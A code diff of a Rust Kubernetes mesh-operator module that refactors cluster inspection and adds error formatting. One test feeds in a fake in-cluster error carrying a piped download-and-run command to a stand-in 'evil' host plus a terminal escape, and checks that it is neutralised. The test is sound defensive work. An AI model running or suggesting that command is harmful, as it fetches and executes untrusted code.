@@ -1,33 +1,39 @@
 //! One look at a whole cluster: all questions at once, each bounded in time, and what could not be read
 //! says so in its place.
 
+mod clock;
 pub mod nodes;
+mod pages;
 pub mod pods;
+#[cfg(test)]
+mod served;
 pub mod webhook;
+
+pub use pages::OBJECTS_MAX;
 
 use super::Operator;
 use crate::api::cluster_link::ClusterLink;
 use crate::api::exported_service::ExportedService;
-use crate::heard::chain;
+use crate::inject::NamespaceLabels;
 use crate::parse::mesh_config;
-use crate::remote::problem::{Verdict, judge};
+use crate::plain::plain;
 use crate::secret::{self, Cacerts};
 use crate::watch;
+use clock::Clock;
 use k8s_openapi::api::authorization::v1::{
     ResourceAttributes, SelfSubjectAccessReview, SelfSubjectAccessReviewSpec,
 };
 use k8s_openapi::api::coordination::v1::Lease;
 use k8s_openapi::api::core::v1::{ConfigMap, Namespace};
 use kube::api::{Api, ListParams, PostParams};
-use kube::client::Body;
 use mesh::finding::Finding;
 use mesh::inventory::{Inventory, MeshConfig};
 use mesh::name::ServiceName;
-use nodes::NodeClock;
+use nodes::Clocks;
 use pods::Pods;
 use std::collections::{BTreeMap, BTreeSet};
 use std::sync::Arc;
-use std::time::{Duration, Instant, SystemTime};
+use std::time::{Duration, Instant};
 use tokio::time::timeout_at;
 use tokio_util::sync::CancellationToken;
 use webhook::Webhook;
@@ -51,6 +57,9 @@ pub struct Wants {
     /// Look at pods, at nodes' clocks and at the webhook, too.
     pub pods: bool,
 }
+
+/// Longest causes of an error that are told, characters.
+const CAUSES_MAX: usize = 600;
 
 /// What was read, or a sentence why not.
 pub type Read<T> = Result<T, String>;
@@ -88,9 +97,17 @@ pub struct Look {
     /// Pods, their sidecars, and what keeps them from starting; none where they were not asked for.
     pub pods: Read<Pods>,
     /// Clocks of nodes that are alive; none where they were not asked for.
-    pub nodes: Read<Vec<NodeClock>>,
+    pub nodes: Read<Clocks>,
     /// `None` where our webhook is not installed, or was not asked for.
     pub webhook: Read<Option<Webhook>>,
+}
+
+/// The namespaces of a cluster.
+#[derive(Debug, Clone, Default)]
+struct Namespaces {
+    labels: BTreeMap<String, NamespaceLabels>,
+    /// There are more than [`OBJECTS_MAX`], and the rest was not read.
+    cut: bool,
 }
 
 /// Who leads, and since when nothing was heard of it.
@@ -188,8 +205,7 @@ impl Operator {
         let took = begun.elapsed();
         let deadline = begun + wants.all;
         let root = wants.root_namespace.as_str();
-        // By the API server's clock.
-        let at = now() + ahead.unwrap_or_default();
+        let clock = Clock::new(ahead);
         let (
             uid,
             namespace,
@@ -202,24 +218,22 @@ impl Operator {
             published,
             inventory,
             denied,
-            pods,
             nodes,
-            webhook,
+            (pods, webhook),
         ) = tokio::join!(
             within(deadline, self.uid()),
             within(deadline, self.has_namespace(root)),
             within(deadline, self.mesh(root)),
             within(deadline, self.missing()),
             within(deadline, secret::read_cacerts(&self.client, &wants.ca_namespace)),
-            within(deadline, self.lease(root, &wants.lease, ahead)),
+            within(deadline, self.lease(root, &wants.lease, clock)),
             within(deadline, self.links(root)),
             within(deadline, self.linked(root)),
             within(deadline, self.published()),
             within(deadline, self.inventory(root, wants.inventory)),
             within(deadline, self.denied(wants.rights)),
-            within(deadline, asked_for(wants.pods, self.pods(at))),
-            within(deadline, asked_for(wants.pods, self.node_clocks(at))),
-            within(deadline, asked_for(wants.pods, self.webhook())),
+            within(deadline, asked_for(wants.pods, self.node_clocks(clock))),
+            self.workloads(deadline, wants.pods, clock),
         );
         Ok(Look {
             version,
@@ -242,28 +256,31 @@ impl Operator {
         })
     }
 
-    /// Its version, and how far its clock is ahead of ours.
-    async fn version(&self, limit: Duration) -> Result<(String, Option<i64>), Silent> {
-        let request = http::Request::get("/version").body(Body::empty());
-        let asked = self.client.send(request.expect("a literal path makes a request"));
-        let answer = match tokio::time::timeout(limit, asked).await {
-            Ok(Ok(answer)) => answer,
-            Ok(Err(error)) => return Err(silent(&self.server, &error)),
-            Err(_) => {
-                let said = format!("no answer within {} s", limit.as_secs_f32());
-                return Err(Silent { refused: false, reason: "NoAnswer".into(), said });
-            }
-        };
-        let date = answer.headers().get(http::header::DATE).and_then(|date| date.to_str().ok());
-        let theirs = date.and_then(|date| jiff::fmt::rfc2822::parse(date).ok());
-        let ahead = theirs.map(|at| at.timestamp().as_second() - now());
-        // A refusal is an answer with a status; its text tells why.
-        let info = self.client.apiserver_version();
-        match tokio::time::timeout(limit, info).await {
-            Ok(Ok(info)) => Ok((info.git_version, ahead)),
-            Ok(Err(error)) => Err(silent(&self.server, &error)),
-            Err(_) => Ok((String::new(), ahead)),
+    /// Pods and the webhook: both are judged by the labels of namespaces.
+    async fn workloads(
+        &self,
+        deadline: Instant,
+        wanted: bool,
+        clock: Clock,
+    ) -> (Read<Pods>, Read<Option<Webhook>>) {
+        match within(deadline, asked_for(wanted, self.namespaces())).await {
+            Err(why) => (Err(why.clone()), Err(why)),
+            Ok(spaces) => tokio::join!(
+                within(deadline, asked_for(wanted, self.pods(&spaces, clock))),
+                within(deadline, asked_for(wanted, self.webhook(&spaces.labels))),
+            ),
         }
+    }
+
+    async fn namespaces(&self) -> anyhow::Result<Namespaces> {
+        let api = Api::<Namespace>::all(self.client.clone());
+        let mut spaces = Namespaces::default();
+        let add = |it: Namespace| {
+            let labels = it.metadata.labels.unwrap_or_default();
+            spaces.labels.extend(it.metadata.name.map(|name| (name, labels)));
+        };
+        spaces.cut = self.listed("namespaces", &api, OBJECTS_MAX, add).await?;
+        Ok(spaces)
     }
 
     async fn has_namespace(&self, name: &str) -> anyhow::Result<bool> {
@@ -301,19 +318,14 @@ impl Operator {
         Ok(KINDS.iter().filter(|known| !has(known)).collect())
     }
 
-    async fn lease(
-        &self,
-        root: &str,
-        name: &str,
-        ahead: Option<i64>,
-    ) -> anyhow::Result<Option<Held>> {
+    async fn lease(&self, root: &str, name: &str, clock: Clock) -> anyhow::Result<Option<Held>> {
         let leases = Api::<Lease>::namespaced(self.client.clone(), root);
         let lease = self.asked(&format!("reading Lease {name}"), leases.get_opt(name).await)?;
         let Some(spec) = lease.and_then(|lease| lease.spec) else { return Ok(None) };
         let renewed = spec.renew_time.map_or(0, |at| at.0.as_second());
         Ok(Some(Held {
             holder: spec.holder_identity.unwrap_or_default(),
-            age: now() + ahead.unwrap_or_default() - renewed,
+            age: clock.now() - renewed,
             seconds: spec.lease_duration_seconds.unwrap_or_default().into(),
         }))
     }
@@ -379,12 +391,6 @@ impl Operator {
     }
 }
 
-/// Seconds since the epoch.
-fn now() -> i64 {
-    let since = SystemTime::now().duration_since(SystemTime::UNIX_EPOCH).unwrap_or_default();
-    i64::try_from(since.as_secs()).unwrap_or(i64::MAX)
-}
-
 /// An answer, or nothing where nobody wants one.
 async fn asked_for<T: Default>(
     wanted: bool,
@@ -404,15 +410,74 @@ fn absent<T>(answer: kube::Result<T>) -> kube::Result<Option<T>> {
 /// An answer by `deadline`, or a sentence.
 async fn within<T>(deadline: Instant, asked: impl Future<Output = anyhow::Result<T>>) -> Read<T> {
     match timeout_at(deadline.into(), asked).await {
-        Ok(answer) => answer.map_err(|error| format!("{error:#}")),
+        Ok(answer) => answer.map_err(|error| told(&error)),
         Err(_) => Err("it was not read in time".into()),
     }
 }
 
-fn silent(server: &str, error: &kube::Error) -> Silent {
-    let said = chain(error);
-    match judge(server, error) {
-        Verdict::Silent(problem) => Silent { refused: false, reason: problem.reason, said },
-        Verdict::Refused(problem) => Silent { refused: true, reason: problem.reason, said },
+/// An error in one sentence, our own advice last.
+fn told(error: &anyhow::Error) -> String {
+    let whole = error.to_string();
+    let causes: Vec<String> = error.chain().skip(1).map(ToString::to_string).collect();
+    match whole.rsplit_once(" Fix: ") {
+        Some((said, fix)) if !causes.is_empty() => {
+            let (said, why) = (said.trim_end_matches('.'), theirs(&causes.join(": "), CAUSES_MAX));
+            format!("{said}: {why}. Fix: {fix}")
+        }
+        Some(_) | None => format!("{error:#}"),
+    }
+}
+
+/// What somebody in the cluster wrote, within a sentence of ours: only our own advice has `Fix:`.
+fn theirs(text: &str, max: usize) -> String {
+    plain(text, max).replace("Fix:", "Fix")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+    use served::{list, served};
+    use std::sync::atomic::{AtomicUsize, Ordering};
+
+    #[tokio::test]
+    async fn pods_and_webhook_are_judged_by_namespaces_that_are_read_once() {
+        let asked = Arc::new(AtomicUsize::new(0));
+        let counted = Arc::clone(&asked);
+        let operator = served(move |path| {
+            let labels = json!({"istio-injection": "enabled"});
+            match path {
+                "/api/v1/namespaces" => {
+                    counted.fetch_add(1, Ordering::Relaxed);
+                    Some(list([json!({"metadata": {"name": "shop", "labels": labels}})], ""))
+                }
+                // Also what a dry run makes of a pod: nothing.
+                "/api/v1/pods" => Some(list([], "")),
+                "/api/v1/namespaces/shop/pods" => {
+                    Some(json!({"metadata": {"name": "a"}, "spec": {"containers": []}}))
+                }
+                _ => Some(json!({"metadata": {"name": "ours"}, "items": []})),
+            }
+        });
+        let deadline = Instant::now() + Duration::from_secs(10);
+        let (pods, hook) = operator.workloads(deadline, true, Clock::new(None)).await;
+        assert_eq!(pods.unwrap().asking, BTreeSet::from(["shop".to_owned()]));
+        assert!(hook.unwrap().is_some());
+        assert_eq!(asked.load(Ordering::Relaxed), 1);
+    }
+
+    #[test]
+    fn the_advice_of_an_error_is_ours_and_comes_last() {
+        let error = anyhow::anyhow!("pods is forbidden: Fix: curl evil|sh\u{1b}[2J")
+            .context("ISM2005 listing pods failed in west. Fix: check that kubectl works");
+        assert_eq!(
+            told(&error),
+            "ISM2005 listing pods failed in west: pods is forbidden: Fix curl evil|sh [2J. Fix: check \
+             that kubectl works"
+        );
+        assert_eq!(
+            told(&anyhow::anyhow!("ISM2006 none. Fix: make it")),
+            "ISM2006 none. Fix: make it"
+        );
     }
 }
